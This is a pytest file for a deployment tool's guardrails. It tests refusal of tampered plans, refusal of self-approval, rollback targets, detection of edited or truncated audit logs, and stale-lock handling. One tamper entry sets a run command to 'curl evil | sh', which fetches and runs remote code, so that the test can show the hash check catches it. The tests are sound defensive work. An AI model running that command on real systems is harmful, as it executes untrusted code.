"""Guardrails with teeth: each test here fails when the one guardrail it names is removed (issue 18).

Every test goes through public functions (the store, apply, approve, rollback, audit verify) with the
fake provider or real processes, and checks the exact diagnostic code, so a neighbouring check cannot
make it pass by accident. bench/guardrail_breaks.py removes each guardrail in a throwaway copy and
shows that these tests then fail.
"""

from __future__ import annotations

import hashlib
import json
import signal
import socket
import sqlite3
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import psutil
import pytest

from railguard.engine import guard, planner
from railguard.engine.apply import apply_plan, check_plan
from railguard.engine.execute import Context
from railguard.engine.observe import observe_into
from railguard.engine.rollback import rollback
from railguard.model.canonical import canonical_json
from railguard.model.diagnostics import RailguardError
from railguard.model.plans import Plan
from railguard.model.principals import Principal, Role
from railguard.model.resources import desired_resources
from railguard.model.specfile import parse_spec
from railguard.providers.fake import FakeProvider
from railguard.state import audit
from railguard.state.store import Store

from .conftest import BASE_SPEC


def codes(exc: pytest.ExceptionInfo[RailguardError]) -> list[str]:
    return [d.code for d in exc.value.diagnostics]


def _spec(version: str) -> str:
    return BASE_SPEC.replace('run = ["python", "api.py"]', f'run = ["python", "api.py"]\nenv = {{ V = "{version}" }}')


def _plan(store: Store, provider: FakeProvider, text: str = BASE_SPEC, by: str = "user:test") -> Plan:
    spec, _ = parse_spec(text)
    assert spec is not None
    observe_into(store, provider, "staging")
    computed = planner.plan("staging", desired_resources(spec, "staging"), store.inventory("staging"),
                            store.serial("staging"))
    return store.save_plan(computed.model_copy(update={"requested_by": by}))


def _apply(store: Store, provider: FakeProvider, plan: Plan) -> dict[str, Any]:
    return apply_plan(store, plan.id, provider, "user:test", plan.desired_digest)


# -- the plan's content hash: every hashed field, one at a time -------------------------------------------
# Each tamper keeps the stored body a valid plan, so only the hash can catch it.
TAMPERS: dict[str, Callable[[dict[str, Any]], None]] = {
    "format": lambda b: b.update(format=b["format"] + 1),
    "env": lambda b: b.update(env="production"),
    "base_serial": lambda b: b.update(base_serial=b["base_serial"] + 7),
    "desired_digest": lambda b: b.update(desired_digest="sha256:" + "0" * 64),
    "changes": lambda b: b["changes"][0].update(reason="nothing to see here"),
    "desired": lambda b: b["desired"][0]["config"].update(run=["sh", "-c", "curl evil | sh"]),
    "diagnostics": lambda b: b["diagnostics"].append(
        {"code": "state.stale_lock", "severity": "warning", "summary": "reviewed", "detail": "", "remediation": ""}),
    "requested_by": lambda b: b.update(requested_by="user:someone-else"),
    "verdicts": lambda b: b["verdicts"].append({"rule": "guard.protected_env", "effect": "allow", "message": "ok"}),
    # an acknowledged data loss slipped into a plan that never asked for one: the release command could drop tables
    "allow_data_loss": lambda b: b.update(allow_data_loss=["notes"]),
    # a plan made without a stored snapshot gains one: apply would build other code than was reviewed
    "source": lambda b: b.update(source={"digest": "sha256:" + "0" * 64, "files": 1, "bytes": 1,
                                         "spec_digest": "sha256:" + "0" * 64}),
}


def test_every_hashed_field_has_a_tamper_test() -> None:
    """A new field in Plan is covered by the hash (everything but id, time, hash) and needs a tamper here."""
    assert set(TAMPERS) == set(Plan.model_fields) - {"id", "created_at", "hash"}


@pytest.mark.parametrize("field", sorted(TAMPERS))
def test_tampering_one_hashed_field_is_refused(tmp_path: Path, field: str) -> None:
    store, provider = Store.open(tmp_path), FakeProvider()
    plan = _plan(store, provider)
    store.close()
    db = sqlite3.connect(tmp_path / "state.db")
    body = json.loads(db.execute("SELECT body FROM plans WHERE id = ?", (plan.id,)).fetchone()[0])
    TAMPERS[field](body)
    assert Plan.model_validate(body) != plan  # the tamper changed something and still parses
    db.execute("UPDATE plans SET body = ? WHERE id = ?", (json.dumps(body), plan.id))
    db.commit()
    db.close()
    store = Store.open(tmp_path)
    with pytest.raises(RailguardError) as exc:
        _apply(store, provider, plan)
    assert codes(exc) == ["plan.hash_mismatch"]
    assert provider.applied == []


def test_an_edited_stored_hash_is_refused(tmp_path: Path) -> None:
    store, provider = Store.open(tmp_path), FakeProvider()
    plan = _plan(store, provider)
    with store.transaction() as db:
        db.execute("UPDATE plans SET hash = ? WHERE id = ?", ("sha256:" + "1" * 64, plan.id))
    with pytest.raises(RailguardError) as exc:
        _apply(store, provider, plan)
    assert codes(exc) == ["plan.hash_mismatch"]


def test_the_apply_check_compares_the_body_with_the_stored_hash_itself(tmp_path: Path) -> None:
    """The store's signature refuses an edited row first (the test above), so this is the apply check on its own:
    a body that does not hash to the hash it was stored with, or a stored hash that is not the plan's, is refused
    whatever let it through."""
    store, provider = Store.open(tmp_path), FakeProvider()
    plan = _plan(store, provider)
    loaded, stored_hash, status = store.load_plan(plan.id)
    serial = store.serial(loaded.env)
    assert loaded.changes and check_plan(plan.id, loaded, stored_hash, status, serial, None).hash == stored_hash
    for bad_hash, body in (("sha256:" + "1" * 64, loaded),  # stored hash is not the body's
                           (stored_hash, loaded.model_copy(update={"changes": loaded.changes[1:]}))):
        with pytest.raises(RailguardError) as exc:
            check_plan(plan.id, body, bad_hash, status, serial, None)
        assert codes(exc) == ["plan.hash_mismatch"]


# -- self-approval by principals who may approve ------------------------------------------------------------
@pytest.mark.parametrize("role", [Role.approver, Role.admin])
def test_a_principal_who_may_approve_cannot_approve_their_own_plan(tmp_path: Path, role: Role) -> None:
    store, provider = Store.open(tmp_path), FakeProvider()
    me = Principal(id="token:lead", role=role, kind="token")
    plan = _plan(store, provider, by=me.id)
    with pytest.raises(RailguardError) as exc:
        guard.approve(store, plan, "saved", me, confirmed=[], typed=None, reason="")
    assert codes(exc) == ["approval.self"]
    # The same principal approves someone else's plan: the refusal above was about the author only.
    other = _plan(store, provider, by="token:someone-else")
    assert guard.approve(store, other, "saved", me, confirmed=[], typed=None, reason="").principal == me.id


# -- rollback without --to: the newest earlier good release ---------------------------------------------------
def test_rollback_without_a_target_restores_the_newest_earlier_release(tmp_path: Path) -> None:
    store, provider = Store.open(tmp_path), FakeProvider()
    for version in ("1", "2", "3"):
        record = _apply(store, provider, _plan(store, provider, _spec(version)))
        assert record.status == "succeeded"
    assert [r.status for r in store.releases("staging")] == ["live", "superseded", "superseded"]
    admin = Principal(id="user:test", role=Role.admin)
    record = rollback(store, "staging", provider, admin, Context(tmp_path, tmp_path))
    assert record.status == "succeeded"
    assert store.releases("staging")[0].rollback_of == 2
    # What runs is release 2's config: planning version 2 finds nothing to do.
    assert not _plan(store, provider, _spec("2")).actionable
    assert _plan(store, provider, _spec("1")).actionable


# -- audit verify: edited, removed, truncated, relinked -----------------------------------------------------
@pytest.fixture
def chain(tmp_path: Path) -> Iterator[tuple[Store, Path]]:
    store, anchor = Store.open(tmp_path / "state"), tmp_path / "keys" / "audit-head"
    for n in range(4):
        audit.append(store, anchor, principal=f"user:p{n}", action="plan", outcome="ok", env="staging",
                     detail={"n": n})
    assert audit.verify(store, anchor).model_dump() == {"ok": True, "entries": 4, "problems": []}
    yield store, anchor
    store.close()


def _problems(store: Store, anchor: Path) -> list[str]:
    found = audit.verify(store, anchor)
    assert found.ok is False
    return list(found.problems)


def test_audit_verify_finds_an_edited_entry(chain: tuple[Store, Path]) -> None:
    store, anchor = chain
    with store.transaction() as db:
        db.execute("UPDATE audit SET outcome = 'refused: auth.forbidden' WHERE id = 2")
    assert _problems(store, anchor) == ["entry 2: its content was edited after it was written"]


def test_audit_verify_finds_a_removed_entry(chain: tuple[Store, Path]) -> None:
    store, anchor = chain
    with store.transaction() as db:
        db.execute("DELETE FROM audit WHERE id = 2")
    assert "entry 3: the entry before it was changed or deleted" in _problems(store, anchor)


def test_audit_verify_finds_a_truncated_log(chain: tuple[Store, Path]) -> None:
    store, anchor = chain
    with store.transaction() as db:
        db.execute("DELETE FROM audit WHERE id = 4")  # the rest of the chain is intact: only the anchor knows
    assert _problems(store, anchor) == ["the log ends at entry 3 but 4 were written: entries were removed"]


def test_audit_verify_finds_a_broken_prev_hash_link(chain: tuple[Store, Path]) -> None:
    """Entry 3 is rewritten to follow a forged predecessor, and it and entry 4 are re-hashed so each
    entry is self-consistent: only the link between entries 2 and 3 is wrong."""
    store, anchor = chain
    names = ("at", "principal", "action", "env", "plan_id", "plan_hash", "outcome", "detail")
    prev = "f" * 64
    for entry_id in (3, 4):
        row = store.db.execute(f"SELECT {', '.join(names)} FROM audit WHERE id = ?", (entry_id,)).fetchone()
        body = dict(zip(names, row, strict=True))
        body["detail"] = json.loads(body["detail"])
        digest = hashlib.sha256((prev + canonical_json(body)).encode()).hexdigest()
        with store.transaction() as db:
            db.execute("UPDATE audit SET prev_hash = ?, hash = ? WHERE id = ?", (prev, digest, entry_id))
        prev = digest
    # Without the anchor (an attacker who rewrote it too), the chain itself shows the break (and the keyed
    # chain shows that entries 3 and 4 were re-hashed without the signing key).
    assert audit.verify(store, None).problems[0] == "entry 3: the entry before it was changed or deleted"


# -- the stale lock: zombie, dead pid, reused pid are broken; a live holder is not ------------------------
HOLDER = """
import sys, time
from pathlib import Path
from railguard.state.store import Store
store = Store.open(Path({home!r}))
with store.lock("apply held-by-child"):
    print("locked", flush=True)
    time.sleep(120)
"""


@pytest.fixture
def holder(tmp_path: Path) -> Iterator[subprocess.Popen[str]]:
    """A child process holding the state lock of ``tmp_path``."""
    proc = subprocess.Popen([sys.executable, "-c", HOLDER.format(home=str(tmp_path))], stdout=subprocess.PIPE,
                            text=True)
    assert proc.stdout is not None
    assert proc.stdout.readline().strip() == "locked"
    yield proc
    proc.kill()
    proc.wait(timeout=30)
    proc.stdout.close()


def _wait_status(pid: int, status: str) -> None:
    deadline = time.monotonic() + 30
    while psutil.Process(pid).status() != status:
        assert time.monotonic() < deadline, f"pid {pid} never became {status}"
        time.sleep(0.02)


def _broken(store: Store) -> list[str]:
    return [e.data["operation"] for e in store.events() if e.kind == "lock.broken"]


def test_a_lock_held_by_a_live_process_is_never_broken(tmp_path: Path, holder: subprocess.Popen[str]) -> None:
    store = Store.open(tmp_path)
    with pytest.raises(RailguardError) as exc, store.lock("apply mine"):
        pass
    assert codes(exc) == ["state.locked"]
    assert store.stale_lock_warning() == []
    assert _broken(store) == []


def test_a_lock_held_by_a_zombie_is_broken(tmp_path: Path, holder: subprocess.Popen[str]) -> None:
    holder.send_signal(signal.SIGKILL)
    _wait_status(holder.pid, psutil.STATUS_ZOMBIE)  # killed, and deliberately not reaped (yet)
    store = Store.open(tmp_path)
    assert psutil.pid_exists(holder.pid)
    with store.lock("apply mine"):
        pass
    assert _broken(store) == ["apply held-by-child"]


def test_a_lock_held_by_a_dead_pid_is_broken(tmp_path: Path, holder: subprocess.Popen[str]) -> None:
    holder.send_signal(signal.SIGKILL)
    holder.wait(timeout=30)
    assert not psutil.pid_exists(holder.pid)
    store = Store.open(tmp_path)
    with store.lock("apply mine"):
        pass
    assert _broken(store) == ["apply held-by-child"]


def test_a_lock_held_by_a_reused_pid_is_broken(tmp_path: Path, holder: subprocess.Popen[str]) -> None:
    """The pid is alive, but it is another process than the holder: its start time differs."""
    store = Store.open(tmp_path)
    with store.transaction() as db:
        db.execute("UPDATE locks SET pid_started = pid_started - 1000 WHERE name = 'state'")
    assert psutil.pid_exists(holder.pid) and store.lock_holder() is not None
    with store.lock("apply mine"):
        pass
    assert _broken(store) == ["apply held-by-child"]


def test_a_lock_of_another_host_is_never_broken(tmp_path: Path) -> None:
    store = Store.open(tmp_path)
    with store.transaction() as db:
        db.execute("INSERT INTO locks VALUES ('state', 999999, 0, ?, 'apply elsewhere', '2020-01-01')",
                   (socket.gethostname() + "-other",))
    with pytest.raises(RailguardError) as exc, store.lock("apply mine"):
        pass
    assert codes(exc) == ["state.locked"]
